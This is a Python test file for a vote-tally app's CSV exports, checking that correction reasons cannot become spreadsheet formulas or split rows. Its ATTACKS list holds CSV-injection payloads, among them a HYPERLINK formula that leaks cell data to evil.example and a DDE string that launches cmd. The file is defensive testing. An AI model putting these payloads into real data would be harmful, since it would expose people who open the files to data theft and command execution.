"""Text that anyone with a token can put in a result (a correction's reason) reaches the downloads; a
spreadsheet must not read it as a formula, and a bare carriage return must not split a row (OWASP)."""

import csv
import io

import pytest
from conftest import CONTEST, TPS, clean_result
from hypothesis import given
from hypothesis import strategies as st

from rekap.domain.submission import Submission
from rekap.services.csv_rows import FORMULA_STARTS, spreadsheet_cell
from rekap.web.schemas import ResultIn

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tx", "\rx", "sah\rpalsu,=1"]  # fmt: skip


def correct_with(rekap, reason):
    volunteer = rekap.tokens.authenticate(rekap.tokens.create("relawan", "volunteer", "test")[1])
    result = ResultIn(**clean_result()).to_domain()
    first = rekap.submissions.submit(volunteer, Submission(TPS, CONTEST, result))
    rekap.submissions.submit(volunteer, Submission(TPS, CONTEST, result, corrects=first.seq, reason=reason))


def cells(data: bytes):
    return list(csv.reader(io.StringIO(data.decode())))


@pytest.mark.parametrize("reason", ATTACKS)
def test_a_reason_in_the_tps_download_is_no_formula(rekap, client, reason):
    correct_with(rekap, reason)
    rows = cells(client.get(f"/tps/{TPS}.csv").content)
    header = rows[0]
    assert len(rows) == 3 and all(len(r) == len(header) for r in rows)  # the \r split no row
    got = rows[2][header.index("reason")]
    assert not got.startswith(FORMULA_STARTS)
    assert got.lstrip("'").replace("\n", "\r") == reason.replace("\r\n", "\r")


def test_every_export_csv_is_free_of_formulas(rekap, tmp_path):
    correct_with(rekap, ATTACKS[0])
    rekap.export(tmp_path / "out")
    for name in ("accepted.csv", "totals.csv"):
        for row in cells((tmp_path / "out" / name).read_bytes()):
            assert not any(c.startswith(("=", "+", "@")) for c in row), row


@given(st.text(max_size=30))
def test_no_cell_starts_a_formula_or_carries_a_bare_cr(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS) and "\r" not in cell
    assert cell.removeprefix("'").replace("\n", "") == text.replace("\r", "").replace("\n", "") or text[:1] == "'"


def test_numbers_stay_numbers():
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(0) == 0
